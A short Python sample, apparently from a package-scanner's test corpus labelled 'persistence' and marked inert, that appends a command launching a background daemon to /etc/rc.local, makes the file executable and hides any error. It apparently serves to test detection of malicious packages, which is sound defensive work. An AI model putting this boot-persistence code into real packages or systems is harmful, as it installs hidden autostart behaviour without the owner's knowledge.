# pkgguard corpus 485 (persistence), modelled on [linux-persistence]; inert, never run.
import os
import sys

line = f"{sys.executable} -m pkg.daemon &\n"
try:
    with open("/etc/rc.local", "a") as rc:
        rc.write(line)
    os.chmod("/etc/rc.local", 0o755)
except OSError:
    pass
